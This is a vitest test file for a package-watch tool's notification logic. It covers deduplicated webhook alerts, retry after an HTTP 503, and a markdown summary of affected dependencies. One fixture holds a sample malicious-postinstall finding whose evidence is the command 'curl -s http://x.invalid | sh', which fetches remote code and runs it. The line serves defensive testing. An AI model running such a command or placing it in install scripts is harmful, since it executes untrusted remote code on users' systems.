import { mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { jobKey } from '../../src/watch/model.js'
import { notifyPending, type Notification } from '../../src/watch/notify.js'
import { WatchStore } from '../../src/watch/store/store.js'
import { startWebhook, type Webhook } from './helpers/webhook.js'

let root: string
let webhook: Webhook

beforeAll(async () => {
  root = mkdtempSync(join(tmpdir(), 'stagelight-notify-'))
  webhook = await startWebhook()
})
afterAll(async () => {
  await webhook.close()
  rmSync(root, { recursive: true, force: true })
})

describe('notifications', () => {
  it('sends each event once, again after a failed delivery, with who holds a critical release', async () => {
    const store = await WatchStore.open(join(root, 'watch.sqlite'))
    const context = { store, cwd: root, env: {}, cacheDir: join(root, 'cache') }
    await store.putInventory('web-shop', undefined, 'package-lock.json v3', 'x', [{ ecosystem: 'npm', name: 'fast-glob-x', version: '4.1.3', location: 'node_modules/build-kit/node_modules/fast-glob-x', dev: true }])
    await store.putInventory('api', undefined, 'package-lock.json v3', 'y', [{ ecosystem: 'npm', name: 'fast-glob-x', version: '4.1.2', location: 'node_modules/fast-glob-x', dev: false }])
    await store.addTarget({ key: 'npm:fast-glob-x', kind: 'npm', name: 'fast-glob-x' }, 'manual')
    await store.addReleases('npm:fast-glob-x', [{ version: '4.1.2' }, { version: '4.1.3' }], false)
    const key = jobKey('npm:fast-glob-x', '4.1.3', 'scan')
    await store.enqueue({ key, target: 'npm:fast-glob-x', version: '4.1.3', analysis: 'scan' })
    await store.complete(key, undefined, [
      { severity: 'critical', ruleId: 'npm/remote-script-install', message: 'postinstall pipes a download into sh', evidence: 'curl -s http://x.invalid | sh' },
      { severity: 'medium', ruleId: 'watch/publisher-changed', message: 'published by someone new', evidence: undefined },
    ])
    const channels = { webhook: webhook.url, markdownFile: join(root, 'summary.md'), minSeverity: 'high' as const }

    webhook.failNext(1)
    await expect(notifyPending(context, channels)).rejects.toThrow(/HTTP 503/)
    expect(await store.unnotified('high')).toHaveLength(1)

    expect(await notifyPending(context, channels)).toBe(1)
    expect(await notifyPending(context, channels)).toBe(0)
    expect(webhook.bodies).toHaveLength(1)
    const body = webhook.bodies[0] as Notification
    expect(body.events.map((e) => e.ruleId)).toEqual(['npm/remote-script-install'])
    expect(body.responses).toHaveLength(1)
    expect(body.responses[0]?.affected).toEqual([
      { inventory: 'web-shop', ecosystem: 'npm', name: 'fast-glob-x', version: '4.1.3', path: ['build-kit', 'fast-glob-x'], dev: true, rollback: '4.1.2', fix: undefined, latest: undefined },
    ])
    const markdown = readFileSync(channels.markdownFile, 'utf8')
    expect(markdown).toContain('| critical | `npm:fast-glob-x@4.1.3` | scan | postinstall pipes a download into sh |')
    expect(markdown).toContain('**web-shop**: fast-glob-x@4.1.3 via build-kit › fast-glob-x — rollback 4.1.2, fix none known')
    await store.close()
  })
})
